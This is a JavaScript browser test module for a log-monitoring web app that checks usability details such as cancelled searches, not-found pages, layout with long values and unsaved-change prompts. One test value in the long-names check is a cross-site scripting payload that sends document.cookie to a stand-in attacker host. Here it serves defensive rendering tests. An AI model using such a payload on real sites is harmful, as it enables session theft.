// What keeps a person from a mistake: what is old says so, what cannot be done says why, and nothing is lost unasked.
import { BASE, NARROW, USER, WIDE, check, expect, main, no_sideways, open, sign_in, token_for_records } from './browser.mjs';

const LONG = 'x'.repeat(3000);

/** Asks the server as whom the page is signed in as; a text is sent as YAML. */
async function ask(page, method, path, body) {
  const answer = await page.evaluate(
    async ([method, path, body]) => {
      const is_yaml = typeof body === 'string';
      const headers = { 'content-type': is_yaml ? 'application/yaml' : 'application/json' };
      const sent = body === undefined ? {} : { headers, body: is_yaml ? body : JSON.stringify(body) };
      const got = await fetch(`/api/v1${path}`, { method, ...sent });
      return { status: got.status, text: await got.text() };
    },
    [method, path, body],
  );
  expect(answer.status < 300, `${method} ${path} answered ${answer.status}: ${answer.text.slice(0, 200)}`);
  return answer.text ? JSON.parse(answer.text) : null;
}

const rule_text = (title, query, more = '') => `title: ${JSON.stringify(title)}
logsource: {}
detection:
  chosen:
    dataset: ${query}
  condition: chosen
level: low
logwarden:
  state: testing
${more}`;

async function walk_cancelled(page) {
  await check('rows and fields of the search before say so while the next runs and after it is cancelled', async () => {
    await page.goto(`${BASE}/search?from=all`);
    const grid = page.getByRole('grid', { name: 'Events', exact: true });
    await grid.locator('[aria-rowindex="1"]').waitFor();
    const plain = await page.locator('#results').evaluate((element) => getComputedStyle(element).backgroundColor);
    const held = [];
    const hold = (route) => held.push(route);
    const slow = (url) => url.pathname.startsWith('/api/v1/') && url.searchParams.get('q')?.includes('slow');
    await page.route(slow, hold);
    try {
      await page.getByRole('textbox', { name: 'Search query' }).fill('message:slow OR message:slower');
      await main(page).getByRole('button', { name: 'Search', exact: true }).click();
      const cancel = main(page).getByRole('button', { name: 'Cancel', exact: true });
      await cancel.waitFor();
      const results = page.getByRole('region', { name: 'Results' });
      const fields = page.getByRole('region', { name: 'Fields', exact: true });
      await results.getByText(/ of the search before$/).waitFor();
      await fields.getByText('Of the search before.').waitFor();
      await cancel.click();
      await page.getByRole('status').filter({ hasText: 'The rows are of the search before' }).waitFor();
      await results.getByText('These rows are of the search before').waitFor();
      await fields.getByText('Of the search before.').waitFor();
      expect(!/\d of 0 loaded/.test(await results.innerText()), 'rows are counted among the events of another search');
      const marked = await page.locator('#results').evaluate((element) => getComputedStyle(element).backgroundColor);
      expect(marked !== plain, 'old rows look like new ones');
    } finally {
      await page.unroute(slow, hold);
      for (const route of held) await route.abort().catch(() => {});
    }
    await main(page).getByRole('button', { name: 'Search', exact: true }).click();
    await page.getByText(/search before/).first().waitFor({ state: 'detached' });
  });
}

async function walk_missing(browser, page) {
  await check('what is not there is said in one way, and once', async () => {
    for (const path of ['/alerts/none', '/rules/none', '/dashboards/none', '/sources/none', '/search/context/none']) {
      await page.goto(BASE + path);
      await page.getByRole('heading', { level: 1, name: 'Not found' }).waitFor();
      const said = await main(page).innerText();
      expect(/There is no such \w+/.test(said) && !said.includes('there is nothing here'), `${path} says ${said}`);
      expect((await page.title()).startsWith('Not found'), `${path} is titled ${await page.title()}`);
    }
  });
  await check('a page that does not exist is not found by a stranger either', async () => {
    const stranger = await open(browser, WIDE, 'light');
    await stranger.goto(`${BASE}/no-such-page`);
    await stranger.getByRole('heading', { level: 1, name: 'Not found' }).waitFor();
    await main(stranger).getByRole('link', { name: 'Overview' }).click();
    await stranger.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
    await stranger.context().close();
  });
}

async function walk_long(browser, page) {
  const mark = `long-${Date.now()}`;
  const wanted = '<script>fetch("//evil.example/"+document.cookie+"/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")</script>';
  const made = [];
  await check('names and values of any length move no page sideways', async () => {
    await page.goto(`${BASE}/rules`);
    for (const title of [LONG, wanted]) made.push((await ask(page, 'POST', '/rules', rule_text(title, `${mark}-none`))).id);
    made.push((await ask(page, 'POST', '/rules', rule_text(`Entity ${mark}`, mark, '  entity: user.name\n').replace('testing', 'enabled'))).id);
    const token = await token_for_records(page);
    const fields = { dataset: mark, 'user.name': LONG.slice(0, 200), 'host.name': LONG.slice(0, 200), 'source.ip': '10.9.8.7' };
    await fetch(`${BASE}/api/v1/ingest`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: JSON.stringify({ message: LONG, ...fields }) });
    await page.waitForFunction(async (id) => (await (await fetch(`/api/v1/alerts?rule=${id}`)).json()).items.length > 0, made[2], { timeout: 30_000, polling: 500 });
    const alert = (await ask(page, 'GET', `/alerts?rule=${made[2]}`)).items[0];
    const narrow = await open(browser, NARROW, 'light');
    await narrow.goto(`${BASE}/login`);
    await sign_in(narrow);
    await narrow.getByRole('heading', { level: 1, name: 'Overview' }).waitFor();
    const query = encodeURIComponent(`dataset:${mark}`);
    const paths = [
      ...made.flatMap((id) => [`/rules/${id}`, `/rules/${id}?tab=form`]), '/', '/rules', `/alerts/${alert.id}`, '/alerts?state=all',
      '/alerts?state=all&group=entity', `/search?from=all&q=${query}`, `/search?from=all&q=${query}&view=json`,
      `/search?from=all&q=${query}&view=patterns`, `/entities/user/${LONG.slice(0, 200)}`, '/entities', `/search/context/${alert.evidence?.[0]?.event_id ?? ''}`,
    ].filter((path) => !path.endsWith('/'), []);
    for (const one of [page, narrow]) {
      for (const path of paths) {
        await one.goto(BASE + path);
        await one.getByRole('heading', { level: 1 }).waitFor();
        await one.waitForLoadState('networkidle').catch(() => {});
        await no_sideways(one).catch((error) => {
          throw new Error(`${path} at ${one.viewportSize().width} px: ${error.message}`);
        });
      }
    }
    await narrow.goto(`${BASE}/alerts?rule=${made[2]}`);
    const cell = narrow.getByRole('table', { name: 'Alerts' }).locator('[data-label="Entity"]').first();
    await cell.waitFor();
    const label_px = await cell.evaluate((element) => parseFloat(getComputedStyle(element, '::before').width));
    expect(label_px > 30, `the label has ${label_px} px`);
    await narrow.context().close();
  });
  for (const id of made) await page.evaluate((id) => fetch(`/api/v1/rules/${id}`, { method: 'DELETE' }), id);
}

async function walk_reasons(page) {
  await check('what cannot be done now says why', async () => {
    for (const path of ['/admin/users', '/search?from=all', '/search?from=all&view=json', '/rules/new', '/admin/retention', '/dashboards']) {
      await page.goto(BASE + path);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.waitForLoadState('networkidle').catch(() => {});
      const silent = await page.evaluate(() =>
        [...document.querySelectorAll('button:disabled, select:disabled, input:disabled')]
          .filter((control) => !(control.getAttribute('aria-describedby') ?? '').split(' ').some((id) => document.getElementById(id)?.textContent.trim()))
          .map((control) => control.outerHTML.slice(0, 120)),
      );
      expect(silent.length === 0, `${path}: ${silent.join(' | ')}`);
    }
    await page.goto(`${BASE}/admin/users`);
    const own = page.getByRole('combobox', { name: `Role of ${USER}`, exact: true });
    expect(await own.isDisabled(), 'the own role can be changed');
  });
  await check('a rule with problems is not saved, as no button of it is', async () => {
    await page.goto(`${BASE}/rules/new?q=${encodeURIComponent('user.name:ana | sort x')}`);
    await page.goto(`${BASE}/rules/new?q=${encodeURIComponent('message:~"a"^3 [')}`);
    await page.getByText('It cannot be saved before its problems are mended.').waitFor();
    for (const name of ['Save as testing', 'Enable']) {
      const button = page.getByRole('button', { name, exact: true });
      expect(await button.isDisabled(), `${name} can be pressed`);
      expect((await button.getAttribute('aria-describedby')) === 'unusable', `${name} does not say why`);
    }
  });
  await check('hidden characters of what is typed are said beside it', async () => {
    await page.goto(`${BASE}/admin/retention`);
    await page.getByRole('button', { name: 'Add policy' }).click();
    const dataset = page.getByRole('textbox', { name: 'Dataset' }).last();
    await dataset.fill('sshd.auth');
    const note = page.getByText('that cannot be seen:');
    expect((await note.count()) === 0, 'a plain name is said to hide something');
    await dataset.fill('ssh\u202ed.\u200bauth');
    await note.filter({ hasText: 'ssh\\u{202e}d.\\u{200b}auth' }).waitFor();
    await page.goto(`${BASE}/notifications?tab=silences`);
    await page.getByRole('button', { name: 'New silence' }).click();
    const dialog = page.getByRole('dialog', { name: /Silence/ });
    await dialog.getByLabel(/^Entity/).fill('ro\u200bot');
    await dialog.getByText('ro\\u{200b}ot').waitFor();
    await dialog.getByLabel('Reason').fill('be\u202ecause');
    await dialog.getByText('be\\u{202e}cause').waitFor();
    await page.keyboard.press('Escape');
  });
  await check('a route that tells nobody is asked about', async () => {
    await page.goto(`${BASE}/notifications?tab=routes`);
    await page.getByRole('button', { name: 'New route', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'New route' });
    await dialog.getByRole('button', { name: 'Save route' }).click();
    expect(await dialog.isVisible(), 'it was saved without a question');
    await dialog.getByRole('checkbox', { name: 'That is meant: tell nobody' }).waitFor();
    await page.keyboard.press('Escape');
  });
}

async function walk_unsaved(page) {
  await check('a panel that cannot be read is marked and not saved', async () => {
    const { id } = await ask(page, 'POST', '/dashboards', { name: 'Care', shared: false, content: { from: 'now-1h', panels: [] } });
    await page.goto(`${BASE}/dashboards/${id}?edit=1`);
    await page.getByRole('button', { name: 'Add panel' }).click();
    const panel = page.getByRole('group', { name: 'Panel 1' });
    await panel.getByRole('textbox', { name: 'Query' }).fill('source.ip:10.0.0.0/99');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('status').filter({ hasText: 'Not saved: 1 panel' }).waitFor();
    await panel.getByText(/The query of this panel/).waitFor();
    expect((await panel.getByRole('textbox', { name: 'Query' }).getAttribute('aria-invalid')) === 'true', 'the query is not marked');
    await panel.getByRole('textbox', { name: 'Query' }).fill('*');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('button', { name: 'Edit', exact: true }).waitFor();
    await page.getByRole('button', { name: 'Remove', exact: true }).click();
    await page.getByRole('dialog', { name: 'Remove dashboard' }).getByRole('button', { name: 'Remove', exact: true }).click();
    await page.waitForURL(`${BASE}/dashboards`);
  });
  await check('a rule that was written and not saved is not lost without a question', async () => {
    await page.goto(`${BASE}/rules`);
    const { id } = await ask(page, 'POST', '/rules', rule_text(`Written ${Date.now()}`, 'none-of-it'));
    await page.goto(`${BASE}/rules`);
    await page.getByRole('heading', { level: 1, name: 'Rules' }).waitFor();
    await page.evaluate((id) => {
      const link = Object.assign(document.createElement('a'), { href: `/rules/${id}?tab=form`, textContent: 'there' });
      document.querySelector('main').append(link);
      link.click();
    }, id);
    const title = page.getByRole('textbox', { name: 'Title', exact: true });
    await title.fill('Written again');
    await title.blur();
    const question = page.getByRole('dialog', { name: 'Leave without saving' });
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Search' }).click();
    await question.getByRole('button', { name: 'Stay here' }).click();
    expect((await title.inputValue()) === 'Written again', 'the text is gone');
    await page.goBack();
    await question.waitFor();
    expect(new URL(page.url()).pathname === `/rules/${id}`, `the address is ${page.url()}`);
    await page.keyboard.press('Escape');
    expect(await page.evaluate(() => !dispatchEvent(new Event('beforeunload', { cancelable: true }))), 'the page can be closed unasked');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('status').filter({ hasText: 'Saved' }).waitFor();
    // A rule without an id of its own is known by its title.
    const saved = decodeURIComponent(new URL(page.url()).pathname.split('/').pop());
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Search' }).click();
    await page.getByRole('heading', { level: 1, name: 'Search' }).waitFor();
    await ask(page, 'DELETE', `/rules/${saved}`);
  });
}

async function walk_copied(page) {
  await check('the time of a copied row has its offset, which is not shown', async () => {
    await page.goto(`${BASE}/search?from=all&tz=Asia/Kolkata`);
    const cell = page.getByRole('grid', { name: 'Events', exact: true }).locator('[aria-rowindex="1"] time');
    await cell.waitFor();
    await cell.evaluate((time) => {
      const selection = getSelection();
      selection.selectAllChildren(time.closest('[role=row]'));
    });
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.keyboard.press('Control+c');
    const row = await page.evaluate(() => navigator.clipboard.readText());
    expect(/\d\d:\d\d:\d\d\.\d{3} \+05:30/.test(row), `copied is ${row.slice(0, 80)}`);
    await page.evaluate(() => getSelection().removeAllRanges());
    const shown = await cell.evaluate((time) => [time.getBoundingClientRect().width, time.querySelector('span').getBoundingClientRect().width]);
    expect(shown[0] > 20 && shown[1] <= 1, `the offset takes ${shown[1]} px`);
  });
  await check('the overview is of the range that was chosen, which is in its address', async () => {
    await page.goto(`${BASE}/`);
    const range = page.getByRole('combobox', { name: 'Time range' });
    expect((await range.inputValue()) === 'now-24h', `it begins with ${await range.inputValue()}`);
    await main(page).getByRole('link', { name: 'Search the last 24 hours' }).waitFor();
    await range.selectOption({ label: 'Last hour' });
    await main(page).getByText(/in the last hour$/).waitFor();
    await main(page).getByRole('heading', { name: 'Events per minute by source' }).waitFor();
    expect(new URL(page.url()).searchParams.get('from') === 'now-1h', `the address is ${page.url()}`);
  });
  await check('the number of open alerts is one number', async () => {
    await page.goto(`${BASE}/alerts`);
    const tab = page.getByRole('tab', { name: /^Open/ });
    await page.getByRole('table', { name: 'Alerts' }).getByRole('row').nth(1).waitFor();
    // The navigation asked earlier; now there is another number.
    await page.route((url) => url.pathname === '/api/v1/alerts', async (route) => {
      const answer = await route.fetch();
      const json = await answer.json();
      await route.fulfill({ response: answer, json: { ...json, counts: { ...json.counts, open: 4321 } } });
    });
    await page.getByRole('combobox', { name: 'Order' }).selectOption('opened_at');
    await tab.filter({ hasText: '4321' }).waitFor();
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: /^Alerts 4321/ }).waitFor({ timeout: 2000 });
    await page.unrouteAll({ behavior: 'wait' });
  });
}

export async function walk_care(browser, page) {
  await walk_cancelled(page);
  await walk_missing(browser, page);
  await walk_long(browser, page);
  await walk_reasons(page);
  await walk_unsaved(page);
  await walk_copied(page);
}
